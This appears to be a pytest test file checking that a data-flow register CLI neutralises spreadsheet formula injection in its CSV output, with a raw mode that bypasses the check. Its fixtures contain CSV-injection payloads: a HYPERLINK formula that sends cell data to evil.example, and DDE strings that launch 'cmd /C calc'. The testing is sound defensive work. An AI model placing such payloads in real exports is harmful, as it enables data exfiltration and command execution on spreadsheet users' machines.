"""CSV for spreadsheets: register text that starts like a formula is written so that Excel and
LibreOffice show it, not run it (OWASP "CSV injection"); ``--csv-raw`` writes it as it is."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from dataflow_graph.cli import cli
from dataflow_graph.errors import Diagnostics, Span
from dataflow_graph.outputs.rows import FORMULA_STARTS, diagnostics_csv, neutral_cell, rows_csv

ROOT = Path(__file__).resolve().parent.parent
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Thurrock")'
STRAY = "+cmd|' /C calc'!A0: x"


@pytest.fixture(scope="module")
def hostile_page(tmp_path_factory) -> Path:
    """The seed page with NHS Thurrock CCG renamed to a formula, a purpose starting with ``-``,
    and a formula as a stray line."""
    seed = (ROOT / "seeds" / "000_95fc53981bcca0e2.txt").read_text(encoding="utf-8")
    page = seed.replace("DSfC - NHS Thurrock CCG - IV — ", f"{EVIL} — ").replace("NHS Thurrock CCG", EVIL)
    page = page.replace("\nCommissioning\n", "\n-Commissioning\n")
    page = page.replace("Sublicensing allowed: No\n", f"Sublicensing allowed: No\n{STRAY}\n", 1)
    path = tmp_path_factory.mktemp("hostile") / "page.txt"
    path.write_text(page, encoding="utf-8")
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    "args",
    [
        ["parse"],
        ["flows"],
        ["converge"],
        ["upstream", EVIL],
        ["downstream", "Data Services for Commissioners Regional Office"],
        ["paths", "--to", EVIL],
        ["sparql", "holders"],
    ],
    ids=lambda a: a[0],
)
def test_rows_csv_neutralises_formulas_from_register_text(hostile_page, args):
    result = CliRunner().invoke(cli, [*args, str(hostile_page), "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    raw = CliRunner().invoke(cli, [*args, str(hostile_page), "--format", "csv", "--csv-raw"])
    assert raw.exit_code == 0
    changed = [c for c in _cells(raw.stdout) if c.startswith(FORMULA_STARTS)]
    assert changed, "the hostile name must reach this command's rows"
    assert sorted("'" + c for c in changed) == sorted(c for c in cells if c.startswith("'") and c[1:] in changed)


def test_rows_errors_csv_neutralises_the_raw_line(hostile_page, tmp_path):
    out = tmp_path / "errors.csv"
    result = CliRunner().invoke(cli, ["parse", str(hostile_page), "--errors-csv", str(out), "--format", "json"])
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert "'" + STRAY in [r["raw"] for r in rows]
    CliRunner().invoke(cli, ["parse", str(hostile_page), "--errors-csv", str(out), "--csv-raw", "--format", "json"])
    assert STRAY in [r["raw"] for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_rows_every_formula_start_gets_a_quote(start):
    assert neutral_cell(f"{start}1+1") == f"'{start}1+1"
    assert rows_csv([{"a": f"{start}x", "n": -3}]) == f"a,n\n{_quoted(chr(39) + start + 'x')},-3\n"


def _quoted(cell: str) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow([cell])
    return buf.getvalue().rstrip("\n")


def test_rows_numbers_and_plain_text_are_unchanged():
    assert rows_csv([{"a": "SUS", "b": 3, "c": -1.5, "d": None, "e": ["-x", "y"]}]) == "a,b,c,d,e\nSUS,3,-1.5,,'-x; y\n"


def test_rows_diagnostics_csv_neutral_and_raw():
    d = Diagnostics()
    d.report(Span("-page.txt", 3, 1, "@SUM(1+1)*cmd|' /C calc'!A0"), "DFG102", "=danger")
    safe = list(csv.reader(io.StringIO(diagnostics_csv(d))))[1]
    assert safe == ["'-page.txt", "3", "1", "DFG102", "warning", "'=danger", "'@SUM(1+1)*cmd|' /C calc'!A0"]
    raw = list(csv.reader(io.StringIO(diagnostics_csv(d, raw=True))))[1]
    assert raw == ["-page.txt", "3", "1", "DFG102", "warning", "=danger", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_rows_every_command_with_csv_output_has_csv_raw():
    for name, command in cli.commands.items():
        params = {p.name: p for p in command.params}
        fmt = params.get("fmt")
        writes_csv = "errors_csv" in params or (
            isinstance(fmt, click.Option) and isinstance(fmt.type, click.Choice) and "csv" in fmt.type.choices
        )
        assert writes_csv == ("csv_raw" in params), name
